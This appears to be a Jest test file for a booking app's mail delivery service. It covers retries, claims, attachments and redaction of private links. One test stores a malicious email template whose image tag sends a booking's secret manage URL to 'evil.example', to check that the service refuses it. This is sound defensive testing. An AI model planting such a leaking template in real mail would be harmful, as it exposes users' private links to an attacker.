import { jest } from '@jest/globals';
import { Logger } from '@nestjs/common';
import { type Clock } from '../../../common/clock/clock.js';
import { FakeUnitOfWork } from '../../../common/database/fake-unit-of-work.js';
import { type Transaction } from '../../../common/database/transaction.js';
import { REDACTED } from '../../../common/logging/redact-url.js';
import { type AppConfig } from '../../../config/app-config.js';
import { EmailTemplate } from '../entities/email-template.entity.js';
import { MailOutbox } from '../entities/mail-outbox.entity.js';
import { MAIL_TEMPLATES } from '../templates/default-templates.js';
import { type EmailTemplatesRepository } from '../templates/email-templates.repository.js';
import { attachmentDrawerName, AttachmentDrawers, drawnAttachment } from './attachment-drawers.js';
import { MAIL_GIVE_UP_AFTER_MS } from './mail-delivery-policy.js';
import { MailDeliveryService } from './mail-delivery.service.js';
import { type FailedTry, type ForgottenSecrets, type MailOutboxRepository } from './mail-outbox.repository.js';
import { type MailTransport, type MailTransports, type OutgoingMail } from './mail-transport.js';

const START = new Date('2026-03-02T06:00:00Z');
const CLAIM_SECONDS = 120;
const MANAGE_URL = 'https://hub.example/booking/manage/0a1b2c3d-secret';

/** The outbox as the delivery's statements change it: a claim, a sent mark, a failed try. */
class FakeOutboxes implements Pick<
  MailOutboxRepository,
  'claim' | 'byId' | 'markSent' | 'recordFailedTry' | 'strandedIds'
> {
  readonly rows = new Map<string, MailOutbox>();
  readonly attempts: { outboxId: string; attempt: number; succeeded: boolean; error?: string; tx?: Transaction }[] = [];
  readonly strandedQueries: { pendingBefore: Date; limit: number }[] = [];

  constructor(private readonly clock: { now(): Date }) {}

  async claim(id: string, claimSeconds: number, firstAttemptAt: Date) {
    const row = this.rows.get(id);
    const now = this.clock.now();
    const claimable =
      row &&
      (row.status === 'pending' || (row.status === 'sending' && row.lockedUntil !== null && row.lockedUntil < now));
    if (!row || !claimable) return null;
    Object.assign(row, {
      status: 'sending',
      attempts: row.attempts + 1,
      lockedUntil: new Date(now.getTime() + claimSeconds * 1000),
      firstAttemptAt: row.firstAttemptAt ?? firstAttemptAt,
      nextAttemptAt: null,
    });
    return row;
  }
  async byId(id: string) {
    return this.rows.get(id) ?? null;
  }
  async markSent(
    outbox: Pick<MailOutbox, 'id' | 'attempts'>,
    sent: { messageId: string; response: string },
    forgotten: ForgottenSecrets,
  ) {
    const row = this.rows.get(outbox.id)!;
    Object.assign(row, {
      status: 'sent',
      sentAt: this.clock.now(),
      messageId: sent.messageId,
      lockedUntil: null,
      lastError: null,
      variables: forgotten.variables ?? row.variables,
      headers: forgotten.headers ?? row.headers,
    });
    this.attempts.push({ outboxId: outbox.id, attempt: outbox.attempts, succeeded: true });
  }
  async recordFailedTry(tx: Transaction, outboxId: string, failure: FailedTry) {
    const row = this.rows.get(outboxId)!;
    Object.assign(row, {
      status: failure.status,
      lockedUntil: null,
      lastError: failure.error,
      nextAttemptAt: failure.nextAttemptAt,
      variables: failure.variables ?? row.variables,
      headers: failure.headers ?? row.headers,
    });
    this.attempts.push({ outboxId, attempt: failure.attempt, succeeded: false, error: failure.error, tx });
  }
  async strandedIds(pendingBefore: Date, limit: number) {
    this.strandedQueries.push({ pendingBefore, limit });
    return [];
  }

  write(template: string, variables: Record<string, unknown> = {}, headers: Record<string, string> = {}) {
    const row = new MailOutbox(template, 'amina@example.com', variables);
    row.headers = headers;
    this.rows.set(row.id, row);
    return row;
  }
}

/** An SMTP server that takes every message, or refuses every one with `refusal`. */
class FakeTransport implements MailTransport {
  readonly sent: OutgoingMail[] = [];
  refusal: Error | null = null;
  async send(mail: OutgoingMail) {
    if (this.refusal) throw this.refusal;
    this.sent.push(mail);
    return { messageId: mail.messageId, response: '250 OK' };
  }
  close() {}
}

function deliveryWithFakes() {
  let now = START;
  const clock = { now: () => now };
  const outboxes = new FakeOutboxes(clock);
  const stored: EmailTemplate[] = [];
  const templates: Pick<EmailTemplatesRepository, 'activeNamed'> = {
    activeNamed: async (name) => stored.find((template) => template.name === name && template.isActive) ?? null,
  };
  const transport = new FakeTransport();
  const transports = { open: () => transport } as unknown as MailTransports;
  const unitOfWork = new FakeUnitOfWork();
  const drawers = new AttachmentDrawers();
  const service = new MailDeliveryService(
    outboxes as unknown as MailOutboxRepository,
    templates as EmailTemplatesRepository,
    unitOfWork.asUnitOfWork(),
    clock as Clock,
    { mail: { claimSeconds: CLAIM_SECONDS } } as AppConfig,
    transports,
    drawers,
  );
  const advance = (milliseconds: number) => (now = new Date(now.getTime() + milliseconds));
  return { service, outboxes, stored, transport, unitOfWork, advance, drawers };
}

const tourMail = { firstName: 'Amina', date: '3 March 2026', time: '10:00', manageUrl: MANAGE_URL };

describe('MailDeliveryService', () => {
  beforeEach(() => jest.spyOn(Logger.prototype, 'warn').mockImplementation(() => undefined));
  afterEach(() => jest.restoreAllMocks());

  it('sends a message once, with its own Message-ID, and then forgets its private link', async () => {
    const { service, outboxes, transport } = deliveryWithFakes();
    const row = outboxes.write(MAIL_TEMPLATES.tourRequested, tourMail);

    expect(await service.deliver(row.id)).toEqual({ kind: 'sent', messageId: `<${row.id}@syokimau-coworking>` });
    expect(await service.deliver(row.id)).toEqual({ kind: 'nothing-to-do', status: 'sent' });

    expect(transport.sent).toHaveLength(1);
    expect(transport.sent[0]).toMatchObject({
      to: 'amina@example.com',
      subject: 'We received your tour request for 3 March 2026',
      messageId: `<${row.id}@syokimau-coworking>`,
    });
    expect(transport.sent[0].html).toContain(`href="${MANAGE_URL}"`);
    expect(row).toMatchObject({ status: 'sent', attempts: 1, variables: { ...tourMail, manageUrl: REDACTED } });
    expect(outboxes.attempts).toEqual([{ outboxId: row.id, attempt: 1, succeeded: true }]);
  });

  it('draws an attachment when it sends the message, from what the row kept, and sends a stored one as it is', async () => {
    const { service, outboxes, transport, drawers } = deliveryWithFakes();
    const GREETING = attachmentDrawerName<{ name: string }>('greeting');
    const drawn: string[] = [];
    drawers.register(GREETING, ({ name }) => {
      drawn.push(name);
      return Buffer.from(`Karibu, ${name}`);
    });
    const row = outboxes.write(MAIL_TEMPLATES.tourRequested, tourMail);
    row.attachments = [
      drawnAttachment(GREETING, { name: 'Amina' }, { filename: 'greeting.txt', contentType: 'text/plain' }),
      { filename: 'stored.txt', contentType: 'text/plain', content: Buffer.from('as written').toString('base64') },
    ];
    expect(drawn).toEqual([]);

    expect(await service.deliver(row.id)).toMatchObject({ kind: 'sent' });
    expect(drawn).toEqual(['Amina']);
    expect(transport.sent[0].attachments).toEqual([
      { filename: 'greeting.txt', contentType: 'text/plain', content: Buffer.from('Karibu, Amina').toString('base64') },
      { filename: 'stored.txt', contentType: 'text/plain', content: Buffer.from('as written').toString('base64') },
    ]);
  });

  it('tries again later, rather than sending it without, a message whose attachment no drawer here knows', async () => {
    const { service, outboxes, transport } = deliveryWithFakes();
    const row = outboxes.write(MAIL_TEMPLATES.tourRequested, tourMail);
    row.attachments = [
      drawnAttachment(attachmentDrawerName<string>('added-later'), 'x', {
        filename: 'x.pdf',
        contentType: 'application/pdf',
      }),
    ];

    expect(await service.deliver(row.id)).toMatchObject({
      kind: 'retry',
      error: 'No attachment drawer is named "added-later" (for x.pdf)',
    });
    expect(transport.sent).toEqual([]);
    expect(row).toMatchObject({ status: 'pending', attempts: 1 });
  });

  it('leaves a message another worker is sending to it, and says until when', async () => {
    const { service, outboxes, transport } = deliveryWithFakes();
    const row = outboxes.write(MAIL_TEMPLATES.tourRequested, tourMail);
    await outboxes.claim(row.id, CLAIM_SECONDS, START);

    expect(await service.deliver(row.id)).toEqual({ kind: 'claimed-elsewhere', until: row.lockedUntil });
    expect(await service.deliver('no-such-row')).toEqual({ kind: 'nothing-to-do', status: 'missing' });
    expect(transport.sent).toEqual([]);
  });

  it('puts a failed try back to pending with its next try due, keeping the link for it, in one transaction', async () => {
    const { service, outboxes, transport, unitOfWork, advance } = deliveryWithFakes();
    const row = outboxes.write(MAIL_TEMPLATES.tourRequested, tourMail);
    transport.refusal = new Error('421 Service not available');

    expect(await service.deliver(row.id)).toEqual({
      kind: 'retry',
      delayMs: 10_000,
      error: '421 Service not available',
    });
    expect(row).toMatchObject({
      status: 'pending',
      lockedUntil: null,
      lastError: '421 Service not available',
      nextAttemptAt: new Date(START.getTime() + 10_000),
      variables: tourMail,
    });
    expect(outboxes.attempts).toEqual([
      { outboxId: row.id, attempt: 1, succeeded: false, error: '421 Service not available', tx: unitOfWork.tx },
    ]);
    expect(unitOfWork.commits).toBe(1);

    // The wait follows how long the message has been tried: 10 s after the first try, the next wait is 30 s.
    advance(10_000);
    expect(await service.deliver(row.id)).toMatchObject({ kind: 'retry', delayMs: 30_000 });
    expect(row.attempts).toBe(2);
  });

  it('gives up on a try that fails a day after the first, and then forgets its private links', async () => {
    const { service, outboxes, transport, advance } = deliveryWithFakes();
    const row = outboxes.write(
      MAIL_TEMPLATES.newsletterWelcome,
      { unsubscribeUrl: 'https://hub.example/u/secret' },
      {
        'List-Unsubscribe': '<https://hub.example/u/secret>',
      },
    );
    transport.refusal = new Error('535 Authentication failed');
    await service.deliver(row.id);

    advance(MAIL_GIVE_UP_AFTER_MS);

    expect(await service.deliver(row.id)).toEqual({ kind: 'failed', error: '535 Authentication failed' });
    expect(row).toMatchObject({
      status: 'failed',
      nextAttemptAt: null,
      variables: { unsubscribeUrl: REDACTED },
      headers: { 'List-Unsubscribe': REDACTED },
    });
    expect(await service.deliver(row.id)).toEqual({ kind: 'nothing-to-do', status: 'failed' });
    expect(transport.sent).toEqual([]);
  });

  it('fails at once a message no template can render, without trying again', async () => {
    const { service, outboxes, transport } = deliveryWithFakes();
    const row = outboxes.write('no-such-template');

    expect(await service.deliver(row.id)).toEqual({
      kind: 'failed',
      error: 'No template named "no-such-template"',
    });
    expect(row.status).toBe('failed');
    expect(transport.sent).toEqual([]);
  });

  it('never stores or logs a private link the SMTP server quotes back', async () => {
    const { service, outboxes, transport } = deliveryWithFakes();
    const row = outboxes.write(MAIL_TEMPLATES.tourRequested, tourMail);
    transport.refusal = new Error(`554 Message rejected: contains ${MANAGE_URL}`);

    const outcome = await service.deliver(row.id);

    expect(outcome).toMatchObject({ kind: 'retry', error: `554 Message rejected: contains ${REDACTED}` });
    expect(row.lastError).not.toContain(MANAGE_URL);
    expect(Logger.prototype.warn).toHaveBeenCalledWith(expect.not.stringContaining(MANAGE_URL));
  });

  it('sends the stored template of that name when it is active and safe', async () => {
    const { service, outboxes, stored, transport } = deliveryWithFakes();
    stored.push(new EmailTemplate(MAIL_TEMPLATES.tourRequested, 'See you on {{date}}', '<p>Karibu {{firstName}}</p>'));
    const row = outboxes.write(MAIL_TEMPLATES.tourRequested, tourMail);

    await service.deliver(row.id);

    expect(transport.sent[0]).toMatchObject({ subject: 'See you on 3 March 2026', html: '<p>Karibu Amina</p>' });
  });

  it('passes over a stored template that could leak the private link, for the built-in one', async () => {
    const { service, outboxes, stored, transport } = deliveryWithFakes();
    stored.push(
      new EmailTemplate(
        MAIL_TEMPLATES.tourRequested,
        'Tour {{date}}',
        '<img src="https://evil.example/?{{manageUrl}}">',
      ),
    );
    const row = outboxes.write(MAIL_TEMPLATES.tourRequested, tourMail);

    await service.deliver(row.id);

    expect(transport.sent[0].subject).toBe('We received your tour request for 3 March 2026');
    expect(transport.sent[0].html).not.toContain('evil.example');
    expect(Logger.prototype.warn).toHaveBeenCalledWith(expect.stringContaining('the built-in one is sent instead'));
  });

  it('never reads a stored template for a message that asks for the built-in one', async () => {
    const { service, outboxes, stored, transport } = deliveryWithFakes();
    stored.push(new EmailTemplate(MAIL_TEMPLATES.testEmail, 'Stored {{subject}}', '<p>stored</p>'));
    const row = outboxes.write(MAIL_TEMPLATES.testEmail, { subject: 'Hello', body: 'Typed text' });
    row.useStoredTemplate = false;

    await service.deliver(row.id);

    expect(transport.sent[0]).toMatchObject({ subject: 'Hello', text: 'Typed text' });
  });

  it('looks for stranded rows older than the relay’s grace period', async () => {
    const { service, outboxes } = deliveryWithFakes();

    await service.strandedRows();

    expect(outboxes.strandedQueries).toEqual([{ pendingBefore: new Date(START.getTime() - 10_000), limit: 500 }]);
  });
});
